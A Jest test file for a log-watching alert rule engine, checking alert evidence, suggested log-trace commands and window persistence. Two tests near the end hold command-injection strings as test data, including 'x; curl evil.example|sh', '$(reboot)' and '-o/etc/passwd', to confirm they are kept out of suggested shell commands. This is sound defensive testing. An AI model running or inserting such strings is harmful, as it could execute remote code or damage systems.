import { describe, expect, it } from '@jest/globals';
import {
  CONTEXT,
  failed,
  processed,
  rejected,
  RuleRun,
  shippedRules,
  type Happening,
} from '../../test/rule-scenario.js';
import { loadWatchConfig } from '../config/watch-config.js';
import { RollingWindow } from '../window/rolling-window.js';
import { ServiceMemory } from '../window/service-memory.js';
import type { Alert } from './alert.js';
import { RuleBook } from './rule-book.js';

/** The alerts on new error types after a quiet beginning, by type: what they show, and the first step where it has that place. */
function newErrors(happenings: readonly Happening[], place = 'request') {
  const [view, memory] = [new RollingWindow(), new ServiceMemory()];
  const count = view.add.bind(view);
  view.add = (line) => (memory.note(line), count(line));
  const rule = `rules:\n  new: { severity: info, when: [{ measure: new_error_type, over: 24h }], what_to_do: { en: ["trace {${place}}"] } }\n`;
  const book = new RuleBook(loadWatchConfig(rule, 'watch.yaml').rules, CONTEXT, memory);
  new RuleRun([{ from: '0', until: '20s', line: processed() }, ...happenings], book, view).live('0', '1m');
  const alerts = book.alerts().map(({ labels, error_types, examples, explain, explain_zh, what_to_do: [step] }) => ({
    about: labels['error_type']!,
    types: error_types.map((it) => it.error_type),
    requests: examples.map((it) => it.error_type),
    step,
    explain: explain.join(' '),
    explainZh: explain_zh.join(''),
  }));
  return alerts.sort((a, b) => (a.about < b.about ? -1 : 1));
}

function firstAlert(rule: string, happenings: readonly Happening[]): Alert {
  const run = new RuleRun(happenings, new RuleBook(shippedRules(rule), CONTEXT), new RollingWindow());
  return run.live('0', '10m').told[0]!.transition.alert;
}

describe('what an alert rests on', () => {
  const refused: Happening[] = [
    { from: '0', until: '40s', line: processed() },
    { from: '41s', until: '44s', line: failed() },
    { from: '50s', until: '90s', line: rejected() },
  ];

  it('is refused requests where refusals are the matter: their errors, the latest of them, and no failure', () => {
    const alert = firstAlert('rejection_rate_high', refused);
    expect(alert.error_types.map((it) => it.error_type)).toEqual(['NoFaceError']);
    expect(alert.examples.map((it) => it.error_type)).toEqual(['NoFaceError', 'NoFaceError', 'NoFaceError']);
    expect(alert.explain.join(' ')).toContain('NoFaceError');
    expect(alert.explain.join(' ')).not.toContain('InferenceError');
    expect(alert.what_to_do[1]).toMatch(new RegExp(`npm run logs -- request ${alert.examples[0]!.request_id}$`));
    expect(alert.what_to_do_zh[1]).toMatch(new RegExp(`npm run logs -- request ${alert.examples[0]!.request_id}$`));
  });

  it('is slow requests where time is, whatever failed meanwhile', () => {
    const alert = firstAlert('latency_high', [
      { from: '0', until: '60s', line: processed(5000) },
      { from: '20s', until: '40s', line: failed() },
    ]);
    expect(alert.examples[0]).toMatchObject({ processing_time_ms: 5000, error_type: null });
    expect(alert.what_to_do[0]).toMatch(new RegExp(`npm run logs -- trace ${alert.examples[0]!.request_id}$`));
  });

  it('says what the slowest requests share where hardly any is past the limit of a percentile', () => {
    const slow: Happening['line'] = { ...processed(5000), model: 'u2net' };
    const quick: Happening['line'] = { ...processed(100), model: 'modnet' };
    const alert = firstAlert('latency_high', [
      { from: '0', until: '30s', line: { ...quick, processingTimeMs: 3000, model: 'u2net' } },
      { from: '30s', until: '90s', line: quick },
      { from: '91s', until: '95s', every: '800ms', line: slow },
    ]);
    expect(alert.summary).toMatch(/^95th percentile/);
    expect(alert.explain.join(' ')).toContain('made with model u2net');
  });

  it('is what met the new error where one is the matter, whatever else fails meanwhile', () => {
    const alerts = newErrors([
      { from: '20s', until: '30s', line: { ...failed(), errorType: 'First' } },
      { from: '30s', until: '40s', line: { ...failed(), errorType: 'Second' } },
    ]);
    expect(alerts).toMatchObject(
      ['First', 'Second'].map((type) => ({ about: type, types: [type], requests: [type, type, type] })),
    );
  });

  it('speaks of what met the new error, not of all that failed', () => {
    const of = (errorType: string, model: string) => ({ ...failed(), errorType, model, stage: 'matte' });
    const alerts = newErrors([
      { from: '20s', until: '30s', every: '500ms', line: { ...processed(), model: 'modnet' } },
      { from: '20s', until: '28s', line: of('New', 'u2net') },
      { from: '28s', until: '58s', line: of('Usual', 'modnet') },
    ]);
    const about = (type: string) => alerts.find((it) => it.about === type);
    expect(about('New')?.explain).toContain('100 % of the New failures are made with model u2net;');
    expect(about('New')?.explain).not.toContain('modnet');
    expect(about('New')?.explainZh).toContain('New 失败请求中 100 % 为：模型 u2net；');
    expect(about('Usual')?.explain).not.toContain('u2net');
  });

  it('is the last request of a new error that others have crowded out', () => {
    const alerts = newErrors([
      { from: '20s', line: { ...failed(), errorType: 'Rare', requestId: 'rare-1' } },
      { from: '20100ms', until: '20800ms', every: '100ms', line: failed() },
    ]);
    expect(alerts.find(({ about }) => about === 'Rare')).toMatchObject({
      ...{ about: 'Rare', types: ['Rare'], requests: ['Rare'], step: 'trace rare-1' },
    });
  });

  it('is there for each of many new errors, and for the rest of them together', () => {
    const types = Array.from({ length: 25 }, (_, n) => `Type${String(n).padStart(2, '0')}`);
    const alerts = newErrors(
      types.flatMap((errorType, n) => [
        {
          from: `${20 + n}s`,
          until: `${20 + n}100ms`,
          every: n < 20 ? '20ms' : '60ms',
          line: { ...failed(), errorType },
        },
      ]),
    );
    expect(alerts).toHaveLength(21);
    for (const { about, requests, types: shown, step } of alerts) {
      expect(requests.length).toBeGreaterThan(0);
      expect(step).toMatch(/^trace req-/);
      expect(about === 'other' ? shown.length > 1 : shown.join() === about).toBe(true);
    }
  });

  it('is the latest failures where nothing is left of those that met it', () => {
    const alerts = newErrors([
      { from: '20s', line: { event: 'service_failed', level: 'ERROR', errorType: 'Odd' } },
      { from: '21s', until: '24s', line: failed() },
    ]);
    expect(alerts.find(({ about }) => about === 'Odd')?.requests).toHaveLength(3);
  });

  it.each([
    ['x; curl evil.example|sh', 'ERROR_TYPE'],
    ['evil.example', 'ERROR_TYPE'],
    ['OddError', 'OddError'],
  ])('names an error type in a command only where a shell takes it as a plain word: %j', (errorType, shown) => {
    const [alert] = newErrors([{ from: '20s', until: '30s', line: { ...failed(), errorType } }], 'labels.error_type');
    expect(alert?.step).toBe(`trace ${shown}`);
  });

  it.each(['$(reboot)', '-o/etc/passwd', 'a;b', 'a b', ''])(
    'puts no request id into a command that a shell would not take as a word: %j',
    (requestId) => {
      const alert = firstAlert('rejection_rate_high', [
        { from: '0', until: '30s', line: { ...rejected(), requestId } },
      ]);
      expect(alert.what_to_do[1]).toMatch(/npm run logs -- request REQUEST_ID$/);
    },
  );

  it('survives a restart: what is saved of a window holds its refusals', () => {
    const window = new RollingWindow();
    new RuleRun(refused, new RuleBook([], CONTEXT), window).live('0', '2m');
    const restored = new RollingWindow();
    restored.restore(JSON.parse(window.encode()));
    const now = window.lastAtMs as number;
    expect(restored.latestRejections(600_000, now, 3)).toEqual(window.latestRejections(600_000, now, 3));
    expect(restored.latestRejections(600_000, now, 100).length).toBeGreaterThan(5);
  });
});
